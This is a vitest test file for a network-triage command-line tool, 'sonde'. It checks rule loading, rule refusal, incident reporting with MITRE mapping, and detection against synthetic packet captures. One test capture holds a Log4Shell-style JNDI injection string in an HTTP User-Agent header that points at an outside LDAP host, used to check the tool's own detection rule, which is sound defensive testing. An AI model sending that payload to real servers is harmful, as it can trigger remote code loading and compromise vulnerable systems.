import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pcapFile } from '../../generator/write.ts';
import { schemaFaults } from '../serve/desk-client.ts';
import { Talk } from '../../unit/signatures/talk.ts';
import { sonde } from './run.ts';

const SLOW = 120_000;
const RULES = [
  'alert http $HOME_NET any -> any any (msg:"A bad word"; http.uri; content:"/EVIL"; classtype:web-application-attack; metadata:mitre_technique_id T1190, mitre_technique_name Exploit_Public_Facing_Application; sid:7; rev:2;)',
  'alert tcp any any -> any any (content:"x"; frobnicate; sid:8;)',
];

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'sonde-rules-'));
  const { frames } = new Talk()
    .open()
    .up('GET /EVIL HTTP/1.1\r\nHost: h\r\n\r\n')
    .down('HTTP/1.1 204 No\r\n\r\n')
    .close();
  const packets = frames.map((data, i) => ({ ts: 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000n, data }));
  writeFileSync(join(folder, 'talk.pcap'), pcapFile(packets));
  writeFileSync(join(folder, 'some.rules'), RULES.join('\n'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('sonde triage --rules', () => {
  it(
    'tells what matched, as a signature and as an incident, and what was refused',
    async () => {
      const rules = join(folder, 'some.rules');
      const ran = await sonde(['triage', join(folder, 'talk.pcap'), '--rules', rules, '--no-models', '--json']);
      expect(ran.code).toBe(0);
      const report = JSON.parse(ran.stdout) as Record<string, unknown>;
      expect(schemaFaults('sonde.triage-1', report)).toBeNull();
      expect(report).toMatchObject({
        signatures: [{ sid: 7, rev: 2, message: 'A bad word', count: 1, classtype: 'web-application-attack' }],
        rules: { loaded: 1, refused: [{ file: rules, line: 2, sid: 8, keyword: 'frobnicate' }] },
        incidents: [
          {
            kind: 'intrusion-attempt',
            severity: 'critical',
            title: 'A bad word: 192.168.1.10 to 203.0.113.5',
            sources: ['192.168.1.10'],
            targets: ['203.0.113.5'],
            technique: [{ id: 'T1190', name: 'Exploit Public Facing Application' }],
          },
        ],
      });
    },
    SLOW,
  );

  it(
    'says in the text what was loaded, refused and matched; that a file holds no rule; and names no technique of its own',
    async () => {
      const rules = join(folder, 'some.rules');
      const talk = join(folder, 'talk.pcap');
      const ran = await sonde(['triage', talk, '--rules', rules, '--no-models']);
      expect(ran.stdout.replace(/\s+/g, ' ')).toMatch(
        /Signatures: 1 rule loaded, 1 rule matched, 1 alert; 1 refused: \S+some\.rules:2 sid 8: frobnicate: /,
      );
      const other = join(folder, 'plain.rules');
      writeFileSync(other, 'alert http any any -> any any (msg:"Word"; http.uri; content:"/EVIL"; sid:9;)\n');
      const plain = await sonde(['triage', talk, '--rules', other, '--no-models', '--json']);
      expect(JSON.parse(plain.stdout)).toMatchObject({ incidents: [{ technique: [] }] });
      writeFileSync(other, '{ "rules": [] }\n# none\n');
      const none = await sonde(['triage', talk, '--rules', other, '--no-models']);
      expect(none).toMatchObject({ code: 3, stdout: '' });
      expect(none.stderr).toContain('an unreadable rules file, no rule stands in it (no line looks like one');
    },
    SLOW,
  );

  it(
    'refuses what is no file of rules, and keeps one of which every rule is refused',
    async () => {
      const talk = join(folder, 'talk.pcap');
      const ran = (rules: string) => sonde(['triage', talk, '--rules', rules, '--no-models']);
      const capture = await ran(talk);
      expect(capture).toMatchObject({ code: 3, stdout: '' });
      expect(capture.stderr).toContain('talk.pcap: an unreadable rules file, no rule stands in it (it is not text)');
      const sigma = join(folder, 'dns.yml');
      writeFileSync(sigma, 'title: A\nlogsource:\n  category: dns\ndetection:\n  a:\n    query: x\n  condition: a\n');
      const refused = await ran(sigma);
      expect(refused.code).toBe(3);
      expect(refused.stderr).toContain('these are Sigma rules; use --sigma');
      const prose = join(folder, 'README.txt');
      writeFileSync(prose, 'Pass it on (all of it).\nalert us (by mail) of faults\n');
      expect((await ran(prose)).code).toBe(3);
      const odd = join(folder, 'odd.rules');
      writeFileSync(odd, '# odd\nalert tcp any any -> any any \\\n (frobnicate:1; sid:31;)\n');
      const kept = await ran(odd);
      expect(kept.code).toBe(0);
      expect(kept.stdout).toContain('Signatures: 0 rules loaded');
      writeFileSync(odd, '# nothing yet\n');
      const empty = await ran(odd);
      expect(empty.code).toBe(0);
      expect(empty.stderr).toContain('no rule stands in it');
    },
    SLOW,
  );

  it(
    'says which file of rules is not there',
    async () => {
      const ran = await sonde(['triage', join(folder, 'talk.pcap'), '--rules', join(folder, 'none.rules')]);
      expect(ran.code).toBe(3);
      expect(ran.stderr).toContain('no such file');
    },
    SLOW,
  );
});

describe('sonde rules check', () => {
  it(
    'tells what would be loaded',
    async () => {
      const ran = await sonde(['rules', 'check', join(folder, 'some.rules'), '--json']);
      const document = JSON.parse(ran.stdout) as Record<string, unknown>;
      expect(ran.code).toBe(0);
      expect(schemaFaults('sonde.rules-check-1', document)).toBeNull();
      expect(document).toMatchObject({
        loaded: 1,
        refusedTotal: 1,
        refused: [{ sid: 8, keyword: 'frobnicate' }],
        slow: [],
      });
      expect((await sonde(['rules'])).code).toBe(2);
    },
    SLOW,
  );

  it(
    'looks by Sonde’s own rules where no others are named, and leaves them out where they are not wanted',
    async () => {
      const { frames } = new Talk()
        .open()
        .up('GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n')
        .close();
      const capture = join(folder, 'jndi.pcap');
      const packets = frames.map((data, i) => ({ ts: 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000n, data }));
      writeFileSync(capture, pcapFile(packets));
      const told = async (...options: string[]): Promise<number[]> => {
        const ran = await sonde(['triage', capture, '--no-models', '--json', ...options]);
        expect(ran.code).toBe(0);
        return (JSON.parse(ran.stdout) as { signatures: { sid: number }[] }).signatures.map(({ sid }) => sid);
      };
      const rules = join(folder, 'some.rules');
      expect(await told()).toEqual([1_990_002]);
      expect(await told('--no-own-rules')).toEqual([]);
      expect(await told('--rules', rules)).toEqual([]);
      expect(await told('--rules', rules, '--own-rules')).toEqual([1_990_002]);
      expect((await sonde(['triage', capture, '--own-rules', '--no-own-rules'])).code).toBe(2);
    },
    SLOW,
  );
});
